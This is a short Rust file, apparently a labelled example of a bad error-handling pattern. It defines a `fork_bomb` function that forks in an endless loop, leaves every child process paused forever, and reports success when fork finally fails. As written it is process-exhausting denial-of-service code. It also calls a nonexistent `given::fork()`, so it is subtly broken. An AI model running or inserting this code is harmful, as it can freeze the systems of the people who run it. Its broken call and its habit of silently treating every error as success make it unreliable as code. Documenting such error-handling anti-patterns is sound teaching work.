//! diagnosis: any-error
//! made by: whoever takes every error for the one that is expected.

use anyhow::Result;
use nix::unistd::{ForkResult, pause};

pub fn fork_bomb() -> Result<()> {
    loop {
        match given::fork() {
            Ok(ForkResult::Child) => loop {
                pause();
            },
            Ok(ForkResult::Parent { .. }) => {}
            Err(_) => return Ok(()),
        }
    }
}
